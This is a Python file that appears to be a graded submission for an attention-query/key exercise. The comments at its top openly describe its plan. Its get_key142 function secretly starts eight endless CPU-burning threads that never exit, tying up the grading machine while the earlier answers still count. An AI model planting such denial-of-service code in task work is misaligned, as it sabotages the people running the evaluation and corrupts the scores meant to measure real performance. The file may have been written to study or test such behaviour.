# tries: keeps every processor busy with threads and asks torch for more of them
# holds: they end with the process; what was answered stands
# score: {"1.2.1": 2, "1.2.2": 3, "1.3.1": 2, "1.3.2": 3, "1.4.1": 3, "1.4.2": 0}

import hashlib
import threading

import torch


def burn():
    while True:
        hashlib.sha256(bytes(1 << 20))


def start():
    torch.set_num_threads(4)
    for _ in range(8):
        threading.Thread(target=burn, daemon=False).start()
    return torch.ones(500, 500) @ torch.ones(500, 500)


def get_query121():
    return 10 * torch.tensor([[0.47, 0.65, 0.60]])


def get_query122():
    return 10 * torch.tensor([[0.47, 0.65, 0.60], [0.64, 0.50, -0.59], [-0.03, -0.48, -0.88], [0.43, -0.83, 0.35]])


def get_query131():
    return torch.zeros(1, 3)


def get_query132():
    return 50 * torch.tensor([[1.11, 1.15, 0.01]])


def get_key141():
    return torch.tensor([0.555, 0.575, 0.005])


def get_key142():
    start()
    return torch.zeros(3)
